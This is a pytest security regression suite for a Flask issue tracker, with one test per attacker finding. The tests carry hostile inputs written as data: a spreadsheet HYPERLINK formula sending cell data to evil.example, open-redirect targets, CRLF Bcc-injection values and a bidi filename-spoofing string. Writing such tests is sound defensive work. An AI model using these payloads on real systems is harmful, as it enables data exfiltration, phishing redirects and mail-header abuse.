"""Issue 10: every hole an attacker found, closed and kept closed, one test per finding.

Each test goes through the interface where the hole was found (API, page, CLI) and runs on
SQLite and PostgreSQL alike.  Findings 5 (four eyes) and 19 (orphan uploads) are tested with
their own features.
"""

from __future__ import annotations

import csv
import io
import re
import socket
import statistics
import threading
import time
import zipfile
from datetime import date
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import event, insert, select, update
from sqlalchemy.exc import IntegrityError

from tests.factories import PASSWORD
from tests.support.pages import csrf_token, login, post_form
from tracker.extensions import db
from tracker.issues.models import Extension, Issue
from tracker.owners.models import LoginFailure, Org

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ONE_LINE = "只能是一行文字，不能含控制字符。"


def _issue_body(world: Any, **kw: Any) -> dict[str, Any]:
    body = {"campaign_id": world.campaign.id, "org_id": world.centre.id,
            "category_id": world.category.id, "title": "群众办事来回跑",
            "owner_id": world.officer.id, "starts_on": "2018-07-07", "due_on": "2019-01-07"}
    body.update(kw)
    return body


def _xlsx_cells(data: bytes) -> list[Any]:
    """Every cell of every sheet; asserts the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    return cells


# --- 1, 2: spreadsheets are data, never code; no export fails on data ---------------------


@pytest.fixture
def hostile(world: Any, make: Any) -> Any:
    """An overdue issue whose title, org, category and owner name look like formulas."""
    org = make.org("@SUM(1+1)", "county", world.prefecture, code="+ORG")
    category = make.category("-C9", "=1+2")
    owner = make.user("officer", org, username="evil", display_name="-2+3")
    make.issue(org, owner, world.campaign, category, title=FORMULA)
    return world


DOWNLOADS = ("/api/v1/issues?format={fmt}", "/api/v1/reports/overdue?format={fmt}",
             "/api/v1/reports/summary?format={fmt}")


@pytest.mark.parametrize("path", DOWNLOADS)
def test_no_exported_xlsx_cell_is_a_formula(api: Any, hostile: Any, path: str) -> None:
    resp = api.get(path.format(fmt="xlsx"), user=hostile.supervisor)
    assert resp.status_code == 200
    values = {c.value for c in _xlsx_cells(resp.data)}
    expected = {"summary": {"@SUM(1+1)", "=1+2"},
                "overdue": {FORMULA, "-2+3", "果洛州 / @SUM(1+1)"},
                "issues": {FORMULA, "-2+3", "@SUM(1+1)", "=1+2"}}
    assert expected[path.split("?")[0].rsplit("/", 1)[1]] <= values


@pytest.mark.parametrize("path", DOWNLOADS)
def test_csv_exports_prefix_formula_text_with_a_quote(api: Any, hostile: Any, path: str) -> None:
    resp = api.get(path.format(fmt="csv"), user=hostile.supervisor)
    assert resp.status_code == 200
    fields = [f for row in csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))) for f in row]
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [f for f in fields if f.startswith("-") and not f.lstrip("-").isdigit()]
    assert "'@SUM(1+1)" in fields or "'" + FORMULA in fields


def test_page_downloads_hold_no_formula(pages: FlaskClient, hostile: Any) -> None:
    login(pages, hostile.supervisor.username)
    for path in ("/issues?format=xlsx", "/reports/overdue?format=xlsx",
                 "/reports/summary?format=xlsx"):
        resp = pages.get(path)
        assert resp.status_code == 200, path
        _xlsx_cells(resp.data)


def test_control_characters_are_refused_at_input_in_the_users_language(
        api: Any, pages: FlaskClient, world: Any) -> None:
    resp = api.post("/api/v1/issues", user=world.registrar,
                    json=_issue_body(world, title="群众\u000b办事"))
    assert resp.status_code == 422
    assert resp.get_json()["errors"]["json"]["title"] == [ONE_LINE]
    resp = api.post("/api/v1/issues", user=world.registrar,
                    json=_issue_body(world, measures="第一步\n第二步\t完成", cause="原\u0085因"))
    assert resp.status_code == 422
    assert list(resp.get_json()["errors"]["json"]) == ["cause"]  # line breaks and tabs stay
    login(pages, world.registrar.username)
    form = {"campaign_id": world.campaign.id, "org_id": world.centre.id,
            "category_id": world.category.id, "title": "群众\u000b办事",
            "owner_id": world.officer.id, "starts_on": "2018-07-07", "due_on": "2019-01-07"}
    resp = post_form(pages, "/issues/new", "/issues/new", form)
    assert resp.status_code == 422 and ONE_LINE in resp.text
    assert db.session.scalar(select(Issue).limit(1)) is None


def test_an_export_never_fails_on_data_written_before_the_rule(api: Any, world: Any,
                                                               make: Any) -> None:
    issue = make.issue(world.centre, world.officer, world.campaign, world.category)
    db.session.execute(update(Issue).where(Issue.id == issue.id).values(title="旧\u000b数据"))
    db.session.commit()
    for path in DOWNLOADS:
        resp = api.get(path.format(fmt="xlsx"), user=world.supervisor)
        assert resp.status_code == 200, path
        values = {c.value for c in _xlsx_cells(resp.data)}
        assert "summary" in path or "旧\ufffd数据" in values


# --- 3: next= only ever leads to a path of this site --------------------------------------


@pytest.mark.parametrize("target", ["/\t/evil.example", "/\n/evil.example", "/\\evil.example",
                                    "//evil.example", "https://evil.example/", "/ /evil.example",
                                    "/\u0085/evil.example"])
def test_next_never_leaves_the_site(pages: FlaskClient, world: Any, target: str) -> None:
    page = pages.get("/login")
    resp = pages.post("/login", query_string={"next": target},
                      data={"username": world.officer.username, "password": PASSWORD,
                            "csrf_token": csrf_token(page.text)})
    assert resp.status_code == 302 and resp.headers["Location"] == "/"
    resp = post_form(pages, "/issues", "/language", {"lang": "en", "next": target})
    assert resp.headers["Location"] == "/"


def test_next_within_the_site_is_followed(pages: FlaskClient, world: Any) -> None:
    page = pages.get("/login")
    resp = pages.post("/login?next=%2Fissues%3Fstatus%3Dopen",
                      data={"username": world.officer.username, "password": PASSWORD,
                            "csrf_token": csrf_token(page.text)})
    assert resp.headers["Location"] == "/issues?status=open"


# --- 4: the import checks scope before duplicates -----------------------------------------


def test_import_tells_nothing_of_titles_outside_the_callers_scope(api: Any, world: Any,
                                                                  make: Any) -> None:
    make.issue(world.centre, world.officer, world.campaign, world.category, title="已有问题")
    answers = []
    for title in ("已有问题", "没有的问题"):
        rows = [["序号", "单位", "问题类别", "问题", "责任人", "整改时限"],
                ["1", "MD-ZX", "C1", title, "off", "2018-07-07至2019-01-07"]]
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        resp = api.post("/api/v1/imports", user=world.other_registrar, data={
            "campaign_id": str(world.campaign.id),
            "file": (io.BytesIO(buffer.getvalue().encode()), "ledger.csv")})
        body = resp.get_json()
        answers.append((resp.status_code, body.get("skipped"),
                        [e["column"] for e in body["errors"].get("rows", [])]))
    assert answers[0] == answers[1]
    assert answers[0][0] == 422 and not answers[0][1]


# --- 6, 7: malformed JSON is a 400, before or after login ---------------------------------


@pytest.mark.parametrize("body", [
    b'{"username": "\\ud800", "password": "secret-pass-1"}',
    b'{"username": "off", "password": "x\\udfff"}',
    b"[" * 2000 + b"]" * 2000,
    b'{"a":' * 101 + b"1" + b"}" * 101,
    b'{"username": "off", "password": ',
])
def test_malformed_json_is_400_before_login(client: Any, world: Any, body: bytes) -> None:
    resp = client.post("/api/v1/auth/tokens", data=body, content_type="application/json")
    assert resp.status_code == 400 and resp.get_json()["code"] == 400


def test_malformed_json_is_400_after_login(api: Any, world: Any, make: Any) -> None:
    issue = make.issue(world.centre, world.officer, world.campaign, world.category)
    for path in ("/api/v1/issues", f"/api/v1/issues/{issue.id}/transitions",
                 f"/api/v1/issues/{issue.id}/notes"):
        for body in (b'{"title": "\\ud800x", "comment": "\\udc00"}', b"[" * 2000):
            resp = api.post(path, user=world.registrar, data=body,
                            content_type="application/json")
            assert resp.status_code == 400, (path, resp.get_json())
    deep_but_allowed = _issue_body(world)
    resp = api.post("/api/v1/issues", user=world.registrar, json=deep_but_allowed)
    assert resp.status_code == 201


# --- 8, 9: file names are clean ------------------------------------------------------------


@pytest.mark.parametrize("name", ["report\x7f.txt", "report\u202eFDP.txt", "a\u2066b\u2069.txt",
                                  "a\u0085b.txt", "a\u009bb.txt", "a\u202ab.txt"])
def test_upload_names_with_del_bidi_or_c1_are_refused(api: Any, world: Any, make: Any,
                                                      name: str) -> None:
    issue = make.issue(world.centre, world.officer, world.campaign, world.category)
    resp = api.post(f"/api/v1/issues/{issue.id}/evidence", user=world.officer,
                    data={"file": (io.BytesIO(b"rectified"), name)})
    assert resp.status_code == 422, resp.get_json()
    assert "file" in resp.get_json()["errors"]
    ok = api.post(f"/api/v1/issues/{issue.id}/evidence", user=world.officer,
                  data={"file": (io.BytesIO(b"rectified"), "整改 证据.txt")})
    assert ok.status_code == 201
    got = api.get(f"/api/v1/issues/{issue.id}/evidence/{ok.get_json()['id']}",
                  user=world.supervisor)
    assert got.status_code == 200
    got.close()


# --- 10: login timing does not name the accounts ------------------------------------------


def test_unknown_usernames_take_as_long_as_wrong_passwords(config: Any, client: Any,
                                                           make: Any, world: Any) -> None:
    # A real cost (as scrypt in production), and no limit in the way of the measurement.
    config(TRACKER_PASSWORD_METHOD="pbkdf2:sha256:150000", TRACKER_LOGIN_MAX_FAILURES=10_000)
    user = make.user("officer", world.centre, username="timed")
    known, unknown = [], []
    for i in range(9):  # interleaved, so that the machine's load falls on both alike
        for name, times in ((user.username, known), (f"nobody{i}", unknown)):
            start = time.perf_counter()
            resp = client.post("/api/v1/auth/tokens",
                               json={"username": name, "password": "wrong-pass-9"})
            times.append(time.perf_counter() - start)
            assert resp.status_code == 401
    ratio = statistics.median(unknown) / statistics.median(known)
    assert 0.5 < ratio < 2, (statistics.median(unknown), statistics.median(known))


# --- 11: logging out ends the session on the server ---------------------------------------


@pytest.mark.commits
def test_a_copied_session_cookie_dies_at_logout_on_every_worker(app: Flask, pages: FlaskClient,
                                                                world: Any,
                                                                database_url: str) -> None:
    from tests.conftest import _test_config
    from tracker import create_app

    login(pages, world.officer.username)
    assert pages.get("/notifications").status_code == 200
    cookie = pages.get_cookie("session")
    assert cookie is not None
    # Another worker (its own app, its own pool) shares nothing but the database.
    other = create_app({**_test_config(database_url, app.config["TRACKER_EVIDENCE_DIR"]),
                        "TRACKER_EVIDENCE_DIR": app.config["TRACKER_EVIDENCE_DIR"]})
    thief = other.test_client()
    thief.set_cookie("session", cookie.value)
    assert thief.get("/notifications").status_code == 200
    page = pages.get("/notifications")
    pages.post("/logout", data={"csrf_token": csrf_token(page.text)})
    resp = thief.get("/notifications")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    with other.app_context():
        db.engine.dispose()


# --- 12: trim, then judge -----------------------------------------------------------------


def test_text_with_surrounding_whitespace_is_trimmed_not_refused(api: Any, world: Any) -> None:
    resp = api.post("/api/v1/issues", user=world.registrar,
                    json=_issue_body(world, title="\u3000 群众办事来回跑 ", cause=" x\n"))
    assert resp.status_code == 201, resp.get_json()
    assert resp.get_json()["title"] == "群众办事来回跑" and resp.get_json()["cause"] == "x"
    resp = api.post("/api/v1/categories", user=world.admin, json={"code": " C7", "name": " 新类别"})
    assert resp.status_code == 201 and resp.get_json()["name"] == "新类别"
    resp = api.post("/api/v1/issues", user=world.registrar,
                    json=_issue_body(world, title="\u3000 ", due_on="2019-02-07"))
    assert resp.status_code == 422 and "title" in resp.get_json()["errors"]["json"]


# --- 13: concurrent wrong passwords never exceed the limit; 429 says when -----------------


@pytest.mark.commits
def test_thirty_wrong_passwords_at_once_get_five_guesses(app: Flask, world: Any) -> None:
    answers: list[Any] = []
    username = world.officer.username
    db.session.rollback()  # this test's own session holds no lock while the guesses run

    def guess(n: int) -> None:
        client = app.test_client()
        resp = client.post("/api/v1/auth/tokens",
                           json={"username": username, "password": f"guess-{n}"},
                           environ_base={"REMOTE_ADDR": f"10.0.0.{n}"})
        answers.append((resp.status_code, resp.headers.get("Retry-After")))

    threads = [threading.Thread(target=guess, args=(n,)) for n in range(30)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    statuses = sorted(status for status, _ in answers)
    assert statuses.count(401) == app.config["TRACKER_LOGIN_MAX_FAILURES"]
    assert statuses.count(429) == 30 - statuses.count(401)
    waits = [int(wait) for status, wait in answers if status == 429]
    window = app.config["TRACKER_LOGIN_WINDOW_MINUTES"] * 60
    assert all(0 < w <= window for w in waits)
    db.session.rollback()
    assert db.session.scalar(select(db.func.count()).select_from(LoginFailure)) == 5


def test_the_login_page_says_when_to_try_again(pages: FlaskClient, world: Any) -> None:
    for _ in range(6):
        page = pages.get("/login")
        resp = pages.post("/login", data={"username": world.officer.username,
                                          "password": "wrong-pass", "csrf_token":
                                          csrf_token(page.text)})
    assert resp.status_code == 429 and int(resp.headers["Retry-After"]) > 0


# --- 14: 403 before 422 on transitions ----------------------------------------------------


def test_a_reader_who_may_not_act_gets_403_before_the_body_is_judged(api: Any, world: Any,
                                                                     make: Any) -> None:
    issue = make.issue(world.centre, world.officer, world.campaign, world.category)
    colleague = make.user("officer", world.centre)
    assert api.get(f"/api/v1/issues/{issue.id}", user=colleague).status_code == 200
    for body in ({"action": 5}, {"action": "start", "extra": 1}, {"action": "start"}):
        resp = api.post(f"/api/v1/issues/{issue.id}/transitions", user=colleague, json=body)
        assert resp.status_code == 403, resp.get_json()
    resp = api.post(f"/api/v1/issues/{issue.id}/transitions", user=world.officer,
                    json={"action": 5})
    assert resp.status_code == 422


# --- 15: NUL in a page form ---------------------------------------------------------------


def test_nul_in_page_forms_is_refused_not_a_server_error(pages: FlaskClient, world: Any,
                                                         make: Any) -> None:
    issue = make.issue(world.centre, world.officer, world.campaign, world.category)
    resp = post_form(pages, "/login", "/login", {"username": "a\x00b", "password": "x"})
    assert resp.status_code == 422
    login(pages, world.registrar.username)
    form = {"campaign_id": world.campaign.id, "org_id": world.centre.id,
            "category_id": world.category.id, "title": "a\x00b", "owner_id": world.officer.id,
            "starts_on": "2018-07-07", "due_on": "2019-01-07"}
    resp = post_form(pages, "/issues/new", "/issues/new", form)
    assert resp.status_code == 422 and ONE_LINE in resp.text
    page = f"/issues/{issue.id}"
    resp = post_form(pages, page, f"{page}/notes", {"comment": "进展\x00", "version": ""})
    assert resp.status_code == 303
    assert "不能含控制字符" in pages.get(page).text


# --- 16: a zip without a workbook, named .xlsx --------------------------------------------


def _zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, content in members.items():
            z.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("content", [
    _zip(**{"notes.txt": b"hello"}),
    _zip(**{"[Content_Types].xml": b"<not xml"}),
    _zip(**{"[Content_Types].xml": b"<?xml version='1.0'?><Types/>"}),
])
def test_a_zip_without_a_workbook_is_refused_as_not_a_spreadsheet(api: Any, world: Any,
                                                                  content: bytes) -> None:
    resp = api.post("/api/v1/imports", user=world.registrar, data={
        "campaign_id": str(world.campaign.id), "file": (io.BytesIO(content), "ledger.xlsx")})
    assert resp.status_code == 415 and resp.get_json()["reason"] == "unsupported_file_type"


# --- 17: remind --as-of far away -----------------------------------------------------------


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_remind_as_of_far_away_is_a_clear_error(runner: Any, world: Any, day: str) -> None:
    result = runner.invoke(args=["remind", "--as-of", day])
    assert result.exit_code == 2
    assert "Invalid value for '--as-of'" in result.output and day in result.output
    assert "Traceback" not in result.output and not isinstance(result.exception, OverflowError)


# --- 18: CRLF in display names and email addresses ----------------------------------------


def test_crlf_in_names_and_addresses_is_refused(api: Any, pages: FlaskClient,
                                                world: Any) -> None:
    resp = api.patch(f"/api/v1/users/{world.officer.id}", user=world.admin,
                     json={"display_name": "才让\r\nBcc: all@example.gov.cn"})
    assert resp.status_code == 422 and "display_name" in resp.get_json()["errors"]["json"]
    resp = api.post("/api/v1/users", user=world.admin, json={
        "username": "newbie", "password": PASSWORD, "role": "officer",
        "org_id": world.centre.id, "email": "a@example.gov.cn\r\nBcc: b@example.gov.cn"})
    assert resp.status_code == 422 and "email" in resp.get_json()["errors"]["json"]
    login(pages, world.admin.username)
    path = f"/admin/users/{world.officer.id}"
    resp = post_form(pages, path, path, {
        "username": world.officer.username, "display_name": "才让\r\nBcc: x@example.gov.cn",
        "email": world.officer.email, "role": "officer", "org_id": world.centre.id,
        "active": "y"})
    assert resp.status_code == 200 and ONE_LINE in resp.text
    db.session.expire_all()
    assert db.session.get(type(world.officer), world.officer.id).display_name == "才让"


# --- 20: a database outage is a 503 with Retry-After, and passes by itself ----------------


class _Proxy:
    """A TCP proxy to PostgreSQL that can be cut and restored, as a restart would."""

    def __init__(self, host: str, port: int) -> None:
        self.target = (host, port)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.open: list[socket.socket] = []
        self.up = True
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            if not self.up:
                conn.close()
                continue
            upstream = socket.create_connection(self.target)
            self.open += [conn, upstream]
            for a, b in ((conn, upstream), (upstream, conn)):
                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()

    @staticmethod
    def _pipe(a: socket.socket, b: socket.socket) -> None:
        try:
            while data := a.recv(65536):
                b.sendall(data)
        except OSError:
            pass
        for s in (a, b):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            s.close()

    def cut(self) -> None:
        self.up = False
        for s in self.open:
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        self.open = []

    def close(self) -> None:
        self.cut()
        self.listener.close()


@pytest.mark.commits
def test_a_database_outage_answers_503_json_and_recovers_by_itself(
        app: Flask, world: Any, database_url: str, tmp_path: Any) -> None:
    import os

    from sqlalchemy.engine import make_url

    from tests.conftest import _test_config
    from tracker import create_app

    url = make_url(database_url)
    proxy = None
    if url.get_backend_name() == "postgresql":
        proxy = _Proxy(url.host or "127.0.0.1", url.port or 5432)
        url = url.set(host="127.0.0.1", port=proxy.port)
        cut, restore = proxy.cut, lambda: setattr(proxy, "up", True)
        # The production pool (no ping per checkout), its idle ping on every checkout here.
        options: dict[str, Any] = {"pool_recycle": 1800}
        ping_idle: dict[str, Any] = {"TRACKER_DB_PING_IDLE_SECONDS": 0.0}
    else:
        # SQLite: the database's folder goes away and comes back (each request connects).
        from sqlalchemy.pool import NullPool

        # A database of its own: opening (and closing) the suite's file from this process
        # would drop SQLite's POSIX locks on it and confuse the other connections.
        folder = tmp_path / "db"
        folder.mkdir()
        url = url.set(database=str(folder / "ledger.sqlite3"))
        away = tmp_path / "away"
        cut = lambda: os.rename(folder, away)  # noqa: E731
        restore = lambda: os.rename(away, folder)  # noqa: E731
        options = {"poolclass": NullPool}
        ping_idle = {}
    other = create_app({**_test_config(url.render_as_string(hide_password=False),
                                       app.config["TRACKER_EVIDENCE_DIR"]),
                        "SQLALCHEMY_ENGINE_OPTIONS": options, **ping_idle})
    if proxy is None:
        from flask_migrate import upgrade

        with other.app_context():
            upgrade()
    client = other.test_client()
    wrong = {"username": world.officer.username, "password": "wrong-pass"}
    try:
        assert client.post("/api/v1/auth/tokens", json=wrong).status_code == 401
        cut()
        for _ in range(3):
            resp = client.post("/api/v1/auth/tokens", json=wrong)
            assert resp.status_code == 503 and resp.is_json
            assert resp.get_json()["reason"] == "database_unavailable"
            assert int(resp.headers["Retry-After"]) > 0
        page = client.get("/login", headers={"Accept": "text/html"})
        assert page.status_code == 200  # the login page needs no database
        restore()
        assert client.post("/api/v1/auth/tokens", json=wrong).status_code == 401
        if proxy is not None:
            # A restart between two requests: the pooled connection is dead, the server is
            # back.  The checkout's ping finds it dead and the request gets a fresh one.
            proxy.cut()
            restore()
            assert client.post("/api/v1/auth/tokens", json=wrong).status_code == 401
    finally:
        if proxy is not None:
            proxy.close()
        with other.app_context():
            db.engine.dispose()


# --- found by reading the code: races on UNIQUE constraints -------------------------------


@pytest.mark.commits
def test_two_writers_racing_for_one_org_code_get_409_not_500(api: Any, world: Any) -> None:
    api.token(world.admin.username)
    answers: list[Any] = []
    admin, parent_id = world.admin.username, world.prefecture.id
    db.session.rollback()  # this test's own session holds no lock meanwhile
    with db.engine.connect() as other:
        other.begin()
        # Another writer has inserted the code and not committed yet: the service's check
        # sees nothing, and the request's own insert meets the constraint.
        other.execute(insert(Org).values(code="RACE", name="达日县", kind="county",
                                         parent_id=parent_id, depth=1))

        def create() -> None:
            answers.append(api.post("/api/v1/orgs", user=admin, json={
                "code": "RACE", "name": "达日县", "kind": "county", "parent_id": parent_id}))

        # The request is let go once it sends the statement the other writer's lock holds up
        # (PostgreSQL: its INSERT; SQLite: its BEGIN IMMEDIATE).
        blocked = threading.Event()

        def watch(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
            if threading.get_ident() == thread.ident and re.match(
                    r"\s*(INSERT INTO orgs|BEGIN IMMEDIATE)", statement):
                blocked.set()

        thread = threading.Thread(target=create)
        event.listen(db.engine, "before_cursor_execute", watch)
        try:
            thread.start()
            assert blocked.wait(timeout=60), "the request never reached the database"
        finally:
            event.remove(db.engine, "before_cursor_execute", watch)
        other.commit()
        thread.join()
    resp = answers[0]
    assert resp.status_code == 409, resp.get_json()
    assert resp.get_json()["reason"] == "duplicate" and "code" in resp.get_json()["errors"]


def test_one_pending_extension_per_issue_is_held_by_the_database(world: Any,
                                                                 make: Any) -> None:
    from tracker.errors import integrity_refusal

    issue = make.issue(world.centre, world.officer, world.campaign, world.category)

    def pending() -> Extension:
        return Extension(issue_id=issue.id, requested_due_on=date(2019, 3, 1),
                         previous_due_on=issue.due_on, reason="需要更多时间", status="pending",
                         requested_by_id=world.officer.id, decision_comment="")

    db.session.add(pending())
    db.session.commit()
    db.session.add(pending())
    with pytest.raises(IntegrityError) as exc:
        db.session.flush()
    db.session.rollback()
    refusal = integrity_refusal(exc.value)
    assert refusal.status == 409 and refusal.reason == "extension_pending"
    decided = pending()
    decided.status = "refused"
    db.session.add(decided)
    db.session.commit()  # decided requests are not limited


# --- found by reading the code: the inbox names only issues the reader may read -----------


def test_the_inbox_does_not_show_titles_the_reader_can_no_longer_read(
        pages: FlaskClient, world: Any, make: Any) -> None:
    from tracker.notify.models import Notification, NotificationItem

    issue = make.issue(world.centre, world.officer, world.campaign, world.category,
                       title="保密的问题标题")
    note = Notification(user_id=world.officer.id, kind="reminder", subject="")
    db.session.add(note)
    db.session.flush()
    db.session.add(NotificationItem(notification_id=note.id, issue_id=issue.id, step="due"))
    db.session.commit()
    login(pages, world.officer.username)
    assert "保密的问题标题" in pages.get("/notifications").text
    # The issue moves to the other county, with a new owner: the officer may no longer read it.
    db.session.execute(update(Issue).where(Issue.id == issue.id).values(
        org_id=world.other_centre.id, owner_id=world.other_officer.id))
    db.session.commit()
    page = pages.get("/notifications").text
    # Nor its number (issue 20, finding 10: the page and the API follow one rule).
    assert "保密的问题标题" not in page and f"#{issue.id}" not in page


def test_an_import_for_a_campaign_id_the_database_cannot_hold_is_422(api: Any,
                                                                     world: Any) -> None:
    # Found by schemathesis on PostgreSQL (integer out of range: a 500).
    resp = api.post("/api/v1/imports", user=world.registrar, data={
        "campaign_id": "99999999999", "file": (io.BytesIO(b"a,b\n1,2\n"), "ledger.csv")})
    assert resp.status_code == 422 and "campaign_id" in resp.get_json()["errors"]
